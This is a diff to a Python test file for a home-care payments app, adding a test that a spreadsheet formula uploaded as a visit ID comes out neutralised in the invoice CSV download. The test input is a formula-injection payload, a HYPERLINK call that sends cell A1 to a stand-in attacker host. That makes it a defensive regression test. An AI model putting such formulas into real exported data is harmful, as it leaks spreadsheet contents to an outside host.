@@ -176,3 +176,16 @@ def test_an_invoice_in_a_posted_run_is_due_to_be_paid_until_its_payment_date(cal
         after = provider.get(f"/payments/invoices/{invoice.pk}/").content.decode()
         assert "Paid on 17 November 2026" in after and "Due to be paid on" not in after
         assert "Paid on 17 Nov 2026" in council.get("/payments/").content.decode()
+
+
+def test_a_visit_id_written_as_a_formula_reaches_the_csv_download_neutralised(calendar, hourly_package, home_care,
+                                                                               finance, signed_in):
+    provider = signed_in(home_care.people.first())
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    row = f'"{formula.replace(chr(34), chr(34) * 2)}",CP-000777,2026-10-14 08:00,2026-10-14 08:30,,,1\n'
+    assert "1 visit stored" in _send(provider, calendar[8], HEADER + row).content.decode()
+    invoice = Invoice.objects.get()
+    for client in (provider, signed_in(finance)):
+        download = client.get(f"/payments/invoices/{invoice.pk}/visits.csv").content.decode()
+        cells = list(csv.reader(io.StringIO(download)))[1]
+        assert cells[0] == "'" + formula
